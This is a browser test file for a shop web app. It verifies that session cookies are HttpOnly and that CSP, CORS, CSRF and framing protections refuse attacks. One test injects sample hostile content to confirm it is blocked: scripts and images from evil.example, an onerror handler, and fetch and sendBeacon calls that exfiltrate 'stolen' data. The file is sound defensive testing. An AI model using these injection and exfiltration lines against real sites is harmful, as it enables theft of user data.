// What a script that got into the page could take or load: nothing.

import assert from "node:assert/strict";
import { test } from "node:test";

import { launch } from "./support/browser.mjs";
import { server } from "./support/server.mjs";

/** Runs a test on a page whose console may have errors: what is refused is told there. */
async function onPage(run) {
  const shop = await server();
  const browser = await launch();
  try {
    const page = await browser.newPage();
    await page.goto(shop.url);
    await page.getByRole("article").first().waitFor();
    await run(page, shop);
  } finally {
    await browser.close();
    await shop.stop();
  }
}

test("a script finds no session in the page", () =>
  onPage(async (page) => {
    const found = await page.evaluate(async () => ({
      cookie: document.cookie,
      stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
      databases: (await indexedDB.databases()).length,
    }));
    assert.equal(found.cookie, "");
    assert.doesNotMatch(found.stored, /[0-9a-f]{64}/);
    assert.equal(found.databases, 0);
    const [cookie] = await page.context().cookies();
    assert.equal(cookie.name, "quotient_session");
    assert.equal(cookie.httpOnly, true);
    assert.equal(cookie.sameSite, "Strict");
  }));

test("a script of someone else is neither run nor loaded, and nothing is sent elsewhere", () =>
  onPage(async (page) => {
    const directives = [
      "script-src-elem",
      "script-src-attr",
      "img-src",
      "frame-src",
      "object-src",
      "style-src-elem",
      "base-uri",
      "connect-src",
    ];
    const seen = await page.evaluate(async (directives) => {
      const refused = [];
      // What is missing after a minute is not refused.
      const all = new Promise((resolve) => {
        setTimeout(resolve, 60_000);
        document.addEventListener("securitypolicyviolation", (event) => {
          refused.push(event.effectiveDirective);
          if (directives.every((directive) => refused.includes(directive))) resolve();
        });
      });
      const element = (name, properties) =>
        document.body.append(Object.assign(document.createElement(name), properties));
      element("script", { textContent: "window.taken = 1" });
      element("script", { src: "https://evil.example/a.js" });
      element("script", { src: "data:text/javascript,window.taken = 2" });
      element("img", { src: "https://evil.example/?stolen" });
      element("iframe", { src: "https://evil.example/" });
      element("object", { data: "https://evil.example/" });
      element("style", { textContent: "body { display: none }" });
      element("base", { href: "https://evil.example/" });
      const markup = document.createElement("div");
      markup.innerHTML = '<img src="x:" onerror="window.taken = 3">';
      document.body.append(markup);
      await fetch("https://evil.example/").catch(() => {});
      navigator.sendBeacon("https://evil.example/", "stolen");
      await all;
      // A script of someone else that is under way still gets its turn.
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { refused, taken: window.taken, shown: getComputedStyle(document.body).display };
    }, directives);
    assert.equal(seen.taken, undefined);
    assert.notEqual(seen.shown, "none");
    for (const directive of directives) {
      assert.ok(seen.refused.includes(directive), `${directive} in ${seen.refused}`);
    }
  }));

test("no other site can show the page in a frame or read what the server answers", () =>
  onPage(async (page, shop) => {
    const other = await server();
    try {
      // The same machine by another port is another origin.
      await page.goto(other.url);
      const seen = await page.evaluate(async (address) => {
        const read = await fetch(`${address}/api/session`, { mode: "cors" }).then(
          () => "read",
          () => "refused",
        );
        const changed = await fetch(`${address}/api/session`, {
          method: "POST",
          mode: "no-cors",
          credentials: "include",
          headers: { "content-type": "text/plain" },
          body: '{"user":"u_max"}',
        }).then(
          () => "sent",
          () => "refused",
        );
        return { read, changed };
      }, shop.url);
      assert.equal(seen.read, "refused");
      assert.equal(seen.changed, "refused");
      // A form is sent by the browser itself, and refused by the server.
      const reply = await fetch(`${shop.url}/api/session`, {
        method: "POST",
        headers: { "content-type": "application/json", origin: other.url },
        body: '{"user":"u_max"}',
      });
      assert.equal(reply.status, 403);
      const framed = await fetch(shop.url);
      assert.match(framed.headers.get("content-security-policy"), /frame-ancestors 'none'/);
      assert.equal(framed.headers.get("x-frame-options"), "DENY");
    } finally {
      await other.stop();
    }
  }));

test("until the script is there the page says that it loads, and without scripts what it needs", async () => {
  const shop = await server();
  const browser = await launch();
  try {
    const page = await browser.newPage();
    let release;
    const held = new Promise((resolve) => (release = resolve));
    for (const address of ["**/assets/*.js", "**/api/session"])
      await page.route(address, async (route) => {
        await held;
        await route.continue();
      });
    await page.goto(`${shop.url}/store`, { waitUntil: "commit" });
    await page.getByText("Fernwerk").first().waitFor();
    await page.locator("main").getByText("Loading…").waitFor();
    release();
    await page.getByRole("heading", { name: "Plans and prices" }).waitFor();
    assert.equal(await page.locator("header").count(), 1);
    assert.equal(await page.locator("main").count(), 1);
    assert.equal(await page.getByText("Loading…").count(), 0);

    const plain = await browser.newPage({ javaScriptEnabled: false });
    await plain.goto(shop.url);
    await plain.locator("noscript").waitFor();
    await plain.getByText("Fernwerk").first().waitFor();
    assert.equal(await plain.getByText("Loading…").isVisible(), false);
  } finally {
    await browser.close();
    await shop.stop();
  }
});
